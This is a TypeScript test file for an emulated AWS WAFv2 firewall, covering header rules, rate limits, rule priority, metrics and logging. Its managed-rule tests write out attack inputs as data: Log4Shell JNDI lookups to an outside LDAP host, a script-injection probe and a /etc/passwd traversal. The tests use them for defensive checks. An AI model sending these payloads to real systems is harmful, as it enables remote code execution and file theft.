import { logs } from "../../../../rehearsal/cloud/logs/service";
import type { Properties } from "../../../../rehearsal/cloud/kernel/properties";
import { faultsOf } from "../../../../rehearsal/cloud/kernel/validation";
import type { Inspected } from "../../../../rehearsal/cloud/wafv2/attacks";
import type { Blocked } from "../../../../rehearsal/cloud/wafv2/firewall";
import { wafv2 } from "../../../../rehearsal/cloud/wafv2/service";
import { Declared, temporaryWorld } from "../../../support/declared";
import { MetricBook } from "../../../support/metrics";

let declared: Declared;
let remove: () => void;
/** The distribution that uses the firewall. */
let user: string | undefined;

beforeEach(async () => {
  const temporary = await temporaryWorld();
  ({ remove } = temporary);
  user = undefined;
  temporary.world.provide("distributions", { protectedBy: () => user });
  declared = new Declared(temporary.world, [wafv2(temporary.world), logs(temporary.world)]);
});
afterEach(() => remove());

const visibilityConfig = { cloudwatchMetricsEnabled: true, sampledRequestsEnabled: true, metricName: "m" };
const acl = (...rules: Properties[]): Properties => ({
  name: "edge",
  scope: "CLOUDFRONT",
  defaultAction: { allow: {} },
  rules: rules.map((rule, priority) => ({ priority, name: `rule-${priority}`, visibilityConfig, ...rule })),
  visibilityConfig,
});
const header = (searchString: string): Properties => ({
  byteMatchStatement: {
    fieldToMatch: { singleHeader: { name: "x-edge-secret" } },
    positionalConstraint: "EXACTLY",
    searchString,
    textTransformations: [{ priority: 0, type: "NONE" }],
  },
});
const limit = (requests: number, further: Properties = { aggregateKeyType: "IP" }): Properties => ({
  action: { block: { customResponse: { responseCode: 429 } } },
  statement: { rateBasedStatement: { limit: requests, evaluationWindowSec: 60, ...further } },
});
const group = (name: string, overrideAction: Properties = { none: {} }): Properties => ({
  overrideAction,
  statement: { managedRuleGroupStatement: { vendorName: "AWS", name } },
});

async function inForce(
  ...rules: Properties[]
): Promise<(request?: Partial<Inspected>, address?: string) => Blocked | undefined> {
  const { outputs } = await declared.create("WebAcl", acl(...rules));
  const arn = String(outputs.arn);
  return (request = {}, address = "192.0.2.1") =>
    declared.world
      .use("firewalls")
      .find(arn)
      ?.inspect(
        { method: "GET", path: "/", query: "", headers: { "user-agent": "test" }, ...request },
        address,
      );
}

it("lets through what no rule meets", async () => {
  expect((await inForce())()).toBeUndefined();
});

it("blocks what lacks a header, and what has another value there", async () => {
  const ask = await inForce({
    action: { block: {} },
    statement: { notStatement: { statement: header("ours") } },
  });
  expect(ask()).toEqual({ status: 403, rule: "rule-0" });
  expect(ask({ headers: { "x-edge-secret": "guessed" } })).toEqual({ status: 403, rule: "rule-0" });
  expect(ask({ headers: { "x-edge-secret": "ours" } })).toBeUndefined();
});

it("tells CloudWatch of each request that it blocks, by the name of its metric", async () => {
  const book = new MetricBook();
  declared.world.provide("metrics", book);
  const ask = await inForce({
    action: { block: {} },
    statement: { notStatement: { statement: header("ours") } },
  });
  ask();
  ask({ headers: { "x-edge-secret": "ours" } });
  ask();
  expect(book.values("BlockedRequests", { WebACL: "m", Rule: "ALL" })).toEqual([1, 1]);
});

it("limits each address, and answers 429 above the limit only", async () => {
  const ask = await inForce(limit(10));
  expect(Array.from({ length: 10 }, () => ask())).not.toContainEqual(expect.anything());
  expect(ask()).toEqual({ status: 429, rule: "rule-0" });
  expect(ask({}, "192.0.2.2")).toBeUndefined();
});

it("limits by the address that a proxy tells, where it is told to believe it", async () => {
  const forwardedIpConfig = { headerName: "CF-Connecting-IP", fallbackBehavior: "MATCH" };
  const ask = await inForce(limit(10, { aggregateKeyType: "FORWARDED_IP", forwardedIpConfig }));
  const from = (address: string): Blocked | undefined => ask({ headers: { "cf-connecting-ip": address } });
  for (let count = 0; count < 10; count += 1) expect(from("2001:db8::1")).toBeUndefined();
  expect(from("2001:db8::1")?.status).toBe(429);
  expect(from("2001:db8::2")).toBeUndefined();
  // Whoever tells none did not come by the proxy.
  expect(ask()?.status).toBe(429);
  expect(from("not an address")?.status).toBe(429);
});

it.each([
  ["Log4JRCE", { headers: { "user-agent": "${jndi:ldap://203.0.113.9/a}" } }],
  ["Log4JRCE", { query: "q=%24%7B%24%7Blower%3Aj%7Dndi:ldap://203.0.113.9%7D" }],
  ["Host_localhost_HEADER", { headers: { host: "localhost" } }],
  ["PROPFIND_METHOD", { method: "PROPFIND" }],
] as const)("the group of known bad inputs has %s: %j", async (rule, request) => {
  const ask = await inForce(group("AWSManagedRulesKnownBadInputsRuleSet"));
  expect(ask(request)).toEqual({ status: 403, rule: `rule-0/${rule}` });
  expect(ask()).toBeUndefined();
});

it.each([
  ["NoUserAgent_HEADER", { headers: {} }],
  ["SizeRestrictions_QUERYSTRING", { query: "x".repeat(2_049) }],
  ["SizeRestrictions_BODY", { headers: { "user-agent": "test", "content-length": "8193" } }],
  ["CrossSiteScripting_QUERYARGUMENTS", { query: "q=%3Cscript%3Ealert(1)" }],
  ["GenericLFI_QUERYARGUMENTS", { query: "file=../../etc/passwd" }],
] as const)("the common group has %s", async (rule, request) => {
  const ask = await inForce(group("AWSManagedRulesCommonRuleSet"));
  expect(ask(request)).toEqual({ status: 403, rule: `rule-0/${rule}` });
  expect(ask({ path: "/v/1.2.0/app.0123456789ab.js", query: "amount=25000&days=45" })).toBeUndefined();
});

it("goes by priority, and only counts where it is told to", async () => {
  const ask = await inForce(
    { ...group("AWSManagedRulesCommonRuleSet", { count: {} }), priority: 2 },
    { action: { count: {} }, statement: header("a"), priority: 1 },
    { action: { block: {} }, statement: header("b"), priority: 3 },
    { action: { allow: {} }, statement: header("c"), priority: 0 },
  );
  for (const value of ["a", "c"]) expect(ask({ headers: { "x-edge-secret": value } })).toBeUndefined();
  expect(ask({ headers: { "x-edge-secret": "b" } })?.rule).toBe("rule-2");
});

it("is changed in place, lives in us-east-1 alone, and is not deleted while it is used", async () => {
  const { id, outputs } = await declared.create("WebAcl", acl());
  await expect(declared.create("WebAcl", acl())).rejects.toThrow(/^WAFDuplicateItemException/);
  await expect(
    declared.create("WebAcl", { ...acl(), name: "other" }, { region: "eu-west-1" }),
  ).rejects.toThrow("scope CLOUDFRONT has to be made in us-east-1");
  await declared.update("WebAcl", id, acl(group("AWSManagedRulesCommonRuleSet")), acl());
  const request = { method: "GET", path: "/", query: "", headers: {} };
  expect(declared.world.use("firewalls").find(String(outputs.arn))?.inspect(request, "x")?.status).toBe(403);
  user = "E123";
  await expect(declared.delete("WebAcl", id)).rejects.toThrow(/^WAFAssociatedItemException/);
  user = undefined;
  await declared.delete("WebAcl", id);
  expect(declared.world.use("firewalls").find(String(outputs.arn))).toBeUndefined();
});

it("logs to a group whose name begins as AWS wants it", async () => {
  const { outputs } = await declared.create("WebAcl", acl());
  const groups = await Promise.all(
    ["aws-waf-logs-edge", "edge"].map((name) => declared.create("LogGroup", { name, retentionInDays: 365 })),
  );
  const [right, wrong] = groups.map((one) => String(one.outputs.arn));
  const log = (destination: string | undefined, resourceArn = outputs.arn): Promise<unknown> =>
    declared.create("WebAclLoggingConfiguration", { resourceArn, logDestinationConfigs: [destination] });
  await log(right);
  await expect(log(wrong)).rejects.toThrow("must begin with aws-waf-logs-");
  await expect(log(`${right}-gone`)).rejects.toThrow("which does not exist");
  await expect(log(right, "arn:gone")).rejects.toThrow(/^WAFNonexistentItemException/);
});

it("refuses what it does not model, and rules that contradict each other", () => {
  const faults = (...rules: Properties[]): string =>
    faultsOf(declared.model("WebAcl"), acl(...rules))
      .map(({ property, reason }) => `${property} ${reason}`)
      .join("\n");
  expect(faults({ action: { block: {} }, statement: header("a") }, limit(10))).toBe("");
  expect(faults(group("AWSManagedRulesBotControlRuleSet"))).toMatch(/no rule group that is modelled/);
  expect(faults({ action: { block: {} }, statement: { geoMatchStatement: {} } })).toMatch(
    /geoMatchStatement/,
  );
  expect(faults(limit(5))).toMatch(/rateBasedStatement.limit/);
  expect(faults({ ...group("AWSManagedRulesCommonRuleSet"), action: { block: {} } })).toMatch(
    /needs an overrideAction/,
  );
  expect(faults({ statement: header("a") })).toMatch(/needs an action/);
  expect(faults(limit(10), { ...limit(10), priority: 0 })).toMatch(/shares its name or priority/);
});
